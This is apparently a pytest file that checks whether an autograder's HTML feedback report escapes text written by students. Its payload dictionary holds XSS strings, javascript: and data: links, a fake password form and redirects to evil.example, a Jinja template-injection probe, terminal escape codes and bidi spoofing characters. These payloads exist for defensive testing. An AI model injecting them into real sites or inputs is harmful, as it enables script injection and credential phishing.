"""Whatever a student writes arrives on the page as text: no tag, attribute or character of it acts."""

from html.parser import HTMLParser

import pytest

from autograder.reports.feedback import render
from tests.reports.conftest import build_proof

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "attribute breakout": '" onmouseover="alert(1)" x="',
    "single quotes": "' autofocus onfocus='alert(1)",
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "markdown link": "[click](javascript:alert(1))",
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=//evil.example></object><embed src=//evil.example>",
    "form": "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "base": "<base href=//evil.example>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "style": "</style><style>body{background:url(//evil.example)}",
    "title": "</title><script>alert(1)</script>",
    "code": "</code></pre></body></html><script>alert(1)</script>",
    "open comment": "<!-- the rest is gone",
    "closed comment": "--><script>alert(1)</script><!--",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "half a tag": "<script",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "jinja": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{# #}",
    "mathjax": r"$\href{javascript:alert(1)}{x}$ \(\require{html}\)",
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "ansi": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "bidi": "\u202e\u2066gnp.exe\u2069\u200b\u2028\ufeff",
    "lone surrogate": "\ud83d<b>",
    "full-width brackets": "\uff1cscript\uff1ealert(1)",
    "one megabyte": "<b>" * 350_000,
}
CALM = "calm"


@pytest.fixture
def page_with(check, exercise, result):
    """Render a page with the same text in each field that could carry a student's."""

    def render_with(text):
        crashed = check(
            "crashed",
            text,
            message=text,
            counterexample=[[text, text]],
            where=[[text, 7, text, text]],
            warnings=[text],
        )
        named = {"name": text, "hint": text, "see": text, "read": text}
        tests = [exercise(text, crashed, check("passed", text), check("missing", text), misconception=named)]
        changes = dict.fromkeys(["student", "title", "unit", "key", "reason", "output"], text) | {
            "output_bytes": 10_000_000,
            "notes": [text],
            "environment": {"isolation": 1, "isolation_name": text, "numpy": text, "python": text},
            "proofs": [build_proof(title=text, comment=text)],
        }
        return render(result(*tests, **changes))

    return render_with


class Skeleton(HTMLParser):
    """All of a page but its text."""

    def __init__(self, html):
        super().__init__()
        self.parts = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.parts.append((tag, attrs))

    def handle_endtag(self, tag):
        self.parts.append(tag)

    def handle_comment(self, data):
        self.parts.append(("comment", data))

    def unknown_decl(self, data):
        self.parts.append(("declaration", data))


@pytest.fixture(params=PAYLOADS.values(), ids=PAYLOADS.keys())
def payload(request):
    return request.param


def test_the_page_keeps_its_skeleton_whatever_the_text(page_with, payload):
    assert Skeleton(page_with(payload)).parts == Skeleton(page_with(CALM)).parts


@pytest.mark.parametrize("character", "<>\"'")
def test_no_character_of_markup_is_added_by_the_text(page_with, payload, character):
    assert page_with(payload).count(character) == page_with(CALM).count(character)


def test_the_page_has_only_characters_one_can_see(page_with, payload):
    assert all(character.isprintable() or character in "\n\t" for character in page_with(payload))


def test_the_page_stays_small(page_with, payload):
    assert len(page_with(payload).encode("utf-8")) < 500_000


def test_hostile_text_can_still_be_read(page_with):
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page_with(PAYLOADS["script"])
    assert "{{ 7 * 7 }}" in page_with(PAYLOADS["jinja"])
    assert r"\x1b]0;owned\x07" in page_with(PAYLOADS["ansi"])


def test_an_entity_in_the_text_is_not_decoded(page_with):
    assert "&amp;lt;script&amp;gt;" in page_with(PAYLOADS["entities"])
